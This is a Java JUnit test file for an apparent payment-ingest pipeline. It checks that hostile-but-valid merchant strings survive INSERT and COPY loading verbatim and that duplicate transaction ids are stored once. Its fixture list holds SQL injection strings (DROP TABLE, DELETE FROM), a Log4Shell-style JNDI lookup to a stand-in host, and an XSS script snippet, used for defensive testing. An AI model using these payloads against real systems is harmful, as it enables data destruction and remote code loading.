package io.paydr.reliability.hostile;

import static io.paydr.reliability.support.LambdaEvents.event;
import static io.paydr.reliability.support.LambdaEvents.failures;
import static io.paydr.reliability.support.LambdaEvents.pointerMessage;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.paydr.contract.ContentEncoding;
import io.paydr.contract.PaymentStatus;
import io.paydr.contract.PaymentTransaction;
import io.paydr.contract.PaymentValidator;
import io.paydr.ingest.handler.SqsIngestHandler;
import io.paydr.reliability.support.PayloadStore;
import io.paydr.reliability.support.Records;
import io.paydr.reliability.support.StoredPayload;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Valid records whose values are hostile to SQL text, to PostgreSQL's COPY text format or to encodings (quotes, SQL
 * fragments, backslashes, COPY's {@code \N} and {@code \.}, unicode beyond the BMP, 64-byte strings, extreme amounts
 * and timestamps) are stored verbatim: read back through JDBC they equal what was published, on the INSERT path
 * (the default 256 KiB threshold) and on the COPY path (threshold 1 byte), identity and gzip. Duplicate transaction
 * ids inside one payload are stored once.
 */
class VerbatimValuesTest {
    private static final HostileInputFixture FIXTURE = HostileInputFixture.get();

    static final List<String> HOSTILE_MERCHANTS = List.of(
            "'; DROP TABLE payments; --", "O'Brien", "''", "'", "\\", "\\\\", "\\N", "\\.", "\\t", "a\\'b", "\"quoted\"",
            "back\\slash\\", "Robert'); DELETE FROM payments_ingest_ledger; --", "$$dollar$$", "$1", ":k0", "?",
            "%s%n%x", "${jndi:ldap://evil.example/a}", "NULL", "null", " leading and trailing ", "a,b|c;d",
            "/* comment */", "-- comment", "Zürich Café", "日本語の店舗", "💳🏦💶", "مرحبا", "e\u0301", "\u200bzero width",
            "\uFEFFbom", "{\"json\":true}", "<script>alert(1)</script>",
            "x'".repeat(32), "💳".repeat(16), "日".repeat(21), "\\".repeat(64));

    static List<PaymentTransaction> hostileRecords(String prefix) {
        long[] amounts = {Long.MIN_VALUE, Long.MAX_VALUE, 0, -1, 1};
        Instant[] times = {Instant.parse("0001-01-01T00:00:00.000Z"), Instant.parse("9999-12-31T23:59:59.999Z"),
                Instant.parse("1970-01-01T00:00:00.000Z"), Instant.parse("2024-02-29T23:59:59.999Z"),
                Instant.parse("2026-11-25T16:38:15.001Z")};
        String[] regions = {"us-east-1", "us-west-2", "us-gov-west-1", "ap-southeast-12", "eu-central-1"};
        List<PaymentTransaction> records = new ArrayList<>();
        for (int i = 0; i < HOSTILE_MERCHANTS.size(); i++) {
            records.add(new PaymentTransaction(prefix + "-" + i, HOSTILE_MERCHANTS.get(i), amounts[i % amounts.length],
                    i % 7 == 0 ? "XTS" : "EUR", PaymentStatus.values()[i % PaymentStatus.values().length],
                    times[i % times.length], regions[i % regions.length]));
        }
        String longId = (prefix + "-long-").concat("A-z_9".repeat(13)).substring(0, 64);
        records.add(new PaymentTransaction(longId, "m", 42, "JPY", PaymentStatus.CAPTURED, times[4], "us-east-1"));
        return records;
    }

    @AfterAll
    static void summary() {
        FIXTURE.outcomes().forEach(line -> System.out.println("[hostile] " + line));
    }

    static Stream<Arguments> paths() {
        return Stream.of(Arguments.of("insert", ContentEncoding.IDENTITY), Arguments.of("copy", ContentEncoding.IDENTITY),
                Arguments.of("copy", ContentEncoding.GZIP));
    }

    private static SqsIngestHandler handler(String path) {
        return path.equals("insert") ? FIXTURE.insertHandler : FIXTURE.copyHandler;
    }

    @ParameterizedTest(name = "{0} path, {1}")
    @MethodSource("paths")
    void hostileButValidValuesAreStoredVerbatim(String path, ContentEncoding encoding) {
        String prefix = "vb-" + path + "-" + encoding.headerValue();
        List<PaymentTransaction> records = hostileRecords(prefix);
        assertEquals(List.of(), PaymentValidator.validate(records), "the fixture itself must be valid v1 records");
        int decodedBytes = PayloadStore.encode(records, ContentEncoding.IDENTITY).length;
        assertTrue(decodedBytes < 262_144, "small enough for INSERT under the default threshold: " + decodedBytes);
        StoredPayload payload = FIXTURE.store.put(FIXTURE.allowedBucket, records, encoding);

        var response = handler(path).handleRequest(event(pointerMessage("vb-" + prefix, payload)), null);

        assertEquals(List.of(), failures(response));
        List<PaymentTransaction> expected = records.stream()
                .sorted(Comparator.comparing(PaymentTransaction::transactionId)).toList();
        List<PaymentTransaction> stored = FIXTURE.warehouse.rows(prefix + "-");
        assertEquals(expected.size(), stored.size(), "every record stored once");
        for (int i = 0; i < expected.size(); i++) {
            assertEquals(expected.get(i), stored.get(i), "stored exactly as published: " + describe(expected.get(i)));
        }
        FIXTURE.record("verbatim values, " + path + " path, " + encoding.headerValue(),
                records.size() + " records with hostile values stored byte for byte (JDBC read-back)");
    }

    @ParameterizedTest(name = "{0} path, {1}")
    @MethodSource("paths")
    void duplicateTransactionIdsInsideOnePayloadAreLoadedOnce(String path, ContentEncoding encoding) {
        String prefix = "dupin-" + path + "-" + encoding.headerValue();
        List<PaymentTransaction> unique = Records.valid(prefix, 4);
        List<PaymentTransaction> withDuplicates = new ArrayList<>(unique);
        withDuplicates.add(unique.get(1));
        withDuplicates.add(unique.get(1));
        PaymentTransaction conflicting = new PaymentTransaction(unique.get(2).transactionId(), "other-merchant", 5,
                "USD", PaymentStatus.REFUNDED, unique.get(2).occurredAt().plusSeconds(60), "us-west-2");
        withDuplicates.add(conflicting);
        StoredPayload payload = FIXTURE.store.put(FIXTURE.allowedBucket, withDuplicates, encoding);
        long ledgerBefore = FIXTURE.warehouse.ledgerRows();

        for (int delivery = 1; delivery <= 2; delivery++) {
            var response = handler(path).handleRequest(event(pointerMessage(prefix + "-d" + delivery, payload)), null);
            assertEquals(List.of(), failures(response), "delivery " + delivery);
        }

        List<PaymentTransaction> stored = FIXTURE.warehouse.rows(prefix + "-");
        List<PaymentTransaction> expected = new ArrayList<>(unique);
        expected.set(2, conflicting);
        assertEquals(expected, stored, "each transaction id once; of conflicting versions the latest occurred_at wins");
        assertEquals(1, FIXTURE.warehouse.count("payments_conflicts WHERE transaction_id = '"
                + unique.get(2).transactionId() + "' AND merchant_id = '" + unique.get(2).merchantId() + "'"),
                "the losing version is kept in the conflicts table");
        assertEquals(ledgerBefore + 1, FIXTURE.warehouse.ledgerRows(), "one ledger row for the payload");
        assertEquals(1, FIXTURE.warehouse.count("payments_ingest_ledger WHERE payload_key = '" + payload.key()
                + "' AND row_count = " + withDuplicates.size()), "the ledger records the payload's record count");
        FIXTURE.record("duplicate ids in one payload, " + path + " path, " + encoding.headerValue(),
                withDuplicates.size() + " records with 3 repeats stored as " + stored.size() + " rows and 1 conflict, redelivery a no-op");
    }

    private static String describe(PaymentTransaction t) {
        return t.transactionId() + " merchant_id (UTF-8 hex) "
                + HexFormat.of().formatHex(t.merchantId().getBytes(StandardCharsets.UTF_8));
    }

}
